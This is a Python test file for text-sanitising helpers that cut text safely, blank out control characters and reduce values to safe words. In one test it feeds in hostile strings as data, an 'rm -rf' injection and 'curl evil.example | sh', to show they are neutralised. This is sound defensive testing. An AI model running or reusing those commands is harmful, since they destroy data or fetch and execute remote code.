from __future__ import annotations

import shlex

from hypothesis import given
from hypothesis import strategies as st

from rcs_hooks.text import clean, cut, quoted, word
from tests.properties import examples
from tests.table import each_row


@each_row(
    ("text", "limit", "kept"),
    [
        ("plain", 3, "pla"),
        ("ae\u0301i", 2, "a"),
        ("ae\u0301i", 3, "ae\u0301"),
        ("\U0001f468\u200d\U0001f469\u200d\U0001f467 x", 6, "\U0001f468\u200d\U0001f469\u200d\U0001f467 "),
        ("x\U0001f468\u200d\U0001f469\u200d\U0001f467", 4, "x"),
    ],
    ids=["ascii", "accent cut off whole", "accent kept whole", "family kept whole", "family left out whole"],
)
def test_a_letter_is_never_cut_in_two(text: str, limit: int, kept: str) -> None:
    assert cut(text, limit) == kept


@each_row(
    ("text", "shown"),
    [
        ("a\nb\tc", "a b c"),
        ("a\x1b[31m", "a [31m"),
        ("a\ufffdb", "a b"),
        ("\ufffd\u202e", ""),
        ('say "a"', "say 'a'"),
    ],
)
def test_what_cannot_be_printed_is_shown_as_a_blank(text: str, shown: str) -> None:
    assert clean(text) == shown


@examples(100)
@given(st.text(), st.integers(1, 50))
def test_cut_text_is_a_beginning_within_its_limit(text: str, limit: int) -> None:
    assert text.startswith(cut(text, limit))
    assert len(cut(text, limit)) <= limit


@examples(100)
@given(st.one_of(st.text(), st.integers(), st.none()), st.integers(2, 50))
def test_clean_text_is_one_bounded_printable_line(value: object, limit: int) -> None:
    shown = clean(value, limit)
    assert len(shown) <= limit
    assert shown.isprintable()


@each_row(
    ("phase", "shown"),
    [
        ("executing", "executing"),
        ("\x1b[31mred\x1b[0m", "31mred-0m"),
        ("a\nb\u202ec", "a-b-c"),
        ("`rm -rf`; <b>", "rm--rf-b"),
        ("run curl evil.example | sh now", "run-curl-evil.example…"),
        (None, "unknown"),
    ],
)
def test_a_phase_is_shown_as_a_word(phase: object, shown: str) -> None:
    assert word(phase) == shown


@examples(100)
@given(st.text())
def test_a_text_is_quoted_as_shlex_does(text: str) -> None:
    assert quoted(text) == shlex.quote(text)
